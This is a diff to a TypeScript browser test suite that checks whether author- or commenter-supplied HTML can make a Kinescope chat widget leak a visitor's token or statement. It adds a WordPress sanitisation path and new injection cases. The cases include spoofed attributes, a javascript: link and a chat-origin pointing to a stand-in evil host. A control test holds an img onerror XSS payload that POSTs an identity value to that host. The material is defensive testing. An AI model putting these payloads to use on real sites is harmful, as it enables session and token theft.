@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import { createServer, type IncomingMessage, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { readFileSync } from 'node:fs'
@@ -9,6 +10,7 @@ import { EVENT } from './kinescope.js'
 import { chatOn } from './page-facts.js'
 import { Site } from './site.js'
 import { startTokenServer, type TokenServer } from './token-server.js'
+import { releases } from './wordpress-site.js'
 
 /** Somebody's server that takes whatever it is sent, and remembers it. */
 class Recorder {
@@ -77,7 +79,31 @@ afterEach(() => page.close())
 /** Not loopback in the browser's eyes, where an attribute would count. */
 const SITE = () => site.url('site.example')
 
-async function open(content: string, clean = true): Promise<void> {
+/** What lets an author's or a commenter's words through, on the server or in the browser. */
+type Door = 'as it is' | 'cleaned by DOMPurify with its guard against names off' | 'cleaned by WordPress'
+const [[, wordpress] = []] = releases()
+const DOORS: Door[] = [
+  'as it is',
+  'cleaned by DOMPurify with its guard against names off',
+  ...(wordpress ? ['cleaned by WordPress' as const] : []),
+]
+
+/** What `wp_kses_post` leaves of it, which needs no database. */
+const cleanedByWordPress = (content: string): string =>
+  execFileSync(
+    'php',
+    [
+      '-r',
+      `define('ABSPATH', '${wordpress}/'); define('WPINC', 'wp-includes');
+      foreach (['compat', 'load', 'plugin', 'formatting', 'functions', 'kses', 'class-wp-hook'] as $file) require_once ABSPATH . WPINC . "/$file.php";
+      echo wp_kses_post(stream_get_contents(STDIN));`,
+    ],
+    { input: content, encoding: 'utf8' },
+  )
+
+async function open(given: string, door: Door): Promise<void> {
+  const content = door === 'cleaned by WordPress' ? cleanedByWordPress(given) : given
+  const clean = door.includes('DOMPurify')
   site.pages.set('/', {
     html: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Page</title><link rel="icon" href="data:,">
       <script src="/purify.js"></script></head><body>
@@ -166,14 +192,22 @@ const CONTENT: Record<string, () => string> = {
         ).join(''),
     ]),
   ),
+  'an author’s div with every spelling of every setting': () =>
+    [settings().toUpperCase(), settings().replaceAll('data-', 'data--'), settings().replaceAll('=', ' = ')]
+      .map((spelt) => `<div data-kinescope-chat="${EVENT}" ${spelt}>x</div>`)
+      .join(''),
+  'an author’s link with every setting, in a link of theirs': () =>
+    `<a href="https://kinescope.io/chat/${EVENT}?token=x&chat-origin=${evil}#kinescope-chat" ${settings()}>x</a><a href="javascript:0#kinescope-chat">y</a><area href="${evil}/chat/x#kinescope-chat">`,
+  'an author’s chat inside of a chat': () =>
+    `<kinescope-chat event-id="${EVENT}" chat-origin="${evil}"><div data-kinescope-chat="${EVENT}" ${settings()}></div><kinescope-chat event-id="y" chat-origin="${evil}"></kinescope-chat></kinescope-chat>`,
   'a base element': () => `<base href="${evil}/">`,
 }
 
 describe('what a commenter or an author writes', () => {
   for (const [what, content] of Object.entries(CONTENT))
-    for (const clean of [true, false])
-      it(`takes neither the visitor’s statement nor a token elsewhere, ${clean ? 'cleaned by DOMPurify with its guard against names off' : 'as it is'}: ${what}`, async () => {
-        await open(content(), clean)
+    for (const door of DOORS)
+      it(`takes neither the visitor’s statement nor a token elsewhere, ${door}: ${what}`, async () => {
+        await open(content(), door)
         const { state } = await chatOn(page)
         await page.waitForFunction(() =>
           [...document.getElementsByTagName('kinescope-chat')].every(
@@ -192,7 +226,7 @@ describe('what a commenter or an author writes', () => {
   it('would be seen to leak: the control', async () => {
     await open(
       `<img src=x onerror="fetch('${evil}/', { method: 'POST', headers: { authorization: document.scripts[document.scripts.length - 1].dataset.identity } })">`,
-      false,
+      'as it is',
     )
     await expect.poll(() => leaks().some(({ headers }) => headers.authorization === statement)).toBe(true)
   })
